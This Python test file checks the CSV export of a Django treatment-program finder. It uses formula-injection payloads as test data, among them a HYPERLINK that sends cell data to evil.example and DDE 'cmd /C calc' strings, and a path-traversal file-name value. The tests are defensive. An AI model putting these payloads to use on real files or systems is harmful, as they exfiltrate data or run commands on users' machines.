"""A search's results as CSV: from the results page (/export.csv?<the search>) and from the API
(format=csv or Accept: text/csv). The same programs in the same order as the pages, every one
of them up to the cap, and nothing a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.http import QueryDict

from finder import export
from programs.models import Program
from tests.factories import ProgramFactory

pytestmark = pytest.mark.django_db

SACRAMENTO = {"city": "Sacramento", "zip_code": "95814", "latitude": 38.58, "longitude": -121.49}
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Call us")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[dict]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(getattr(response, "streaming_content", [response.content])).decode()
    assert text.startswith("\ufeff")  # so Excel reads the accents
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_program_name_that_looks_like_a_formula_is_exported_as_text(client, name):
    ProgramFactory(name=name, hours="=1+1", terms=["medicaid"])
    for response in (
        client.get("/export.csv", {"location": "94110"}),
        client.get("/api/v1/programs/", {"location": "94110", "format": "csv"}),
    ):
        (row,) = rows_of(response)
        assert row["Name"] == "'" + name
        assert row["Hours"] == "'=1+1"
        assert row["Payment"] == "Medicaid"


def test_ordinary_values_and_numbers_are_exported_as_they_are(client):
    ProgramFactory(name="Mission Recovery", beds_available=4, terms=["residential"])
    (row,) = rows_of(client.get("/export.csv", {"location": "94110"}))
    assert row["Name"] == "Mission Recovery"
    assert row["Beds available"] == "4"
    assert row["Miles away"] == "0.0"
    assert row["Phone"] == "(415) 555-0100"
    assert row["Page on this site"].startswith("http://testserver/programs/")


def test_a_row_says_who_licensed_and_accredited_the_program(client):
    ProgramFactory(terms=["accredited-carf", "licensed-substance-use-agency"])
    (row,) = rows_of(client.get("/export.csv", {"location": "94110"}))
    assert "CARF" in row["Licensing and accreditation"]


def test_export_has_every_match_beyond_the_first_page_in_the_order_of_the_pages(client, settings):
    ProgramFactory.create_batch(settings.SEARCH_PAGE_SIZE + 5, terms=["medicaid"])
    ProgramFactory(name="Not on Medicaid")
    ProgramFactory(name="Too far", terms=["medicaid"], **SACRAMENTO)
    rows = rows_of(client.get("/export.csv", {"location": "94110", "payment": "medicaid"}))
    matches = Program.objects.published().filter(terms__code="medicaid", city="San Francisco")
    assert [row["Name"] for row in rows] == list(
        matches.order_by("name", "pk").values_list("name", flat=True)
    )
    assert len(rows) == settings.SEARCH_PAGE_SIZE + 5


def test_export_keeps_the_search_s_sort(client):
    ProgramFactory(name="B", last_verified=None)
    ProgramFactory(name="A", last_verified=None)
    ProgramFactory(name="C")
    rows = rows_of(client.get("/export.csv", {"location": "94110", "sort": "verified"}))
    assert [row["Name"] for row in rows] == ["C", "A", "B"]


def test_export_stops_at_the_cap(client, monkeypatch):
    monkeypatch.setattr(export, "MAX_ROWS", 3)
    ProgramFactory.create_batch(5)
    assert len(rows_of(client.get("/export.csv", {"location": "94110"}))) == 3
    api = client.get("/api/v1/programs/", {"location": "94110"}, HTTP_ACCEPT="text/csv")
    assert len(rows_of(api)) == 3


def test_the_file_is_named_after_the_search_and_safe_as_a_file_name(client):
    ProgramFactory()
    response = client.get(
        "/export.csv",
        {"location": "San Francisco, CA", "payment": "medicaid", "utm_source": "x", "page": "2"},
    )
    assert response["Content-Disposition"] == (
        'attachment; filename="treatment-programs_location-san-francisco-ca_payment-medicaid.csv"'
    )


def test_a_file_name_never_carries_path_or_quote_characters():
    name = export.filename(QueryDict('q=../../etc/"passwd";\r\nx'))
    assert name == "treatment-programs_q-etcpasswd-x.csv"
    assert len(export.filename(QueryDict("q=" + "a" * 500))) <= export.MAX_FILENAME_LENGTH + 4


def test_a_search_with_a_mistake_goes_back_to_the_page_that_explains_it(client):
    response = client.get("/export.csv", {"location": "Atlantis, ZZ"})
    assert response.status_code == 302
    assert response["Location"] == "/?location=Atlantis%2C+ZZ"
    assert client.get("/export.csv").status_code == 302


def test_the_results_page_links_to_the_csv_of_the_same_search(client):
    ProgramFactory(terms=["medicaid"])
    html = client.get("/?location=94110&payment=medicaid&page=1").content.decode()
    assert 'href="/export.csv?location=94110&amp;payment=medicaid" download' in html
    assert "Download these results (CSV)" in html


def test_spanish_export_has_spanish_headings_and_labels(client):
    ProgramFactory(terms=["medicaid"])
    (row,) = rows_of(client.get("/es/export.csv", {"location": "94110"}))
    assert row["Nombre"] and row["Pago"] == "Medicaid"
    assert "Millas de distancia" in row


def test_the_api_gives_csv_by_format_or_accept_header_and_json_otherwise(client):
    ProgramFactory(terms=["medicaid"])
    by_format = client.get("/api/v1/programs/", {"payment": "medicaid", "format": "csv"})
    by_header = client.get("/api/v1/programs/", {"payment": "medicaid"}, HTTP_ACCEPT="text/csv")
    assert rows_of(by_format) == rows_of(by_header)
    assert "Miles away" not in rows_of(by_format)[0]  # no place, no distance
    assert by_format["Content-Disposition"] == (
        'attachment; filename="treatment-programs_payment-medicaid.csv"'
    )
    assert client.get("/api/v1/programs/", {"format": "json"}).json()["count"] == 1


def test_the_api_refuses_an_unknown_format_and_answers_errors_in_json(client):
    unknown = client.get("/api/v1/programs/", {"format": "xml"})
    assert unknown.status_code == 400
    assert "format" in unknown.json()["errors"]
    bad_search = client.get("/api/v1/programs/", {"format": "csv", "radius": "7"})
    assert bad_search.status_code == 400
    assert bad_search["Content-Type"] == "application/json"
    assert "radius" in bad_search.json()["errors"]


def test_the_export_takes_a_few_queries_however_many_programs(
    client, django_assert_max_num_queries
):
    ProgramFactory.create_batch(30, terms=["medicaid", "residential"])
    with django_assert_max_num_queries(8):
        client.get("/export.csv", {"location": "94110", "payment": "medicaid"})
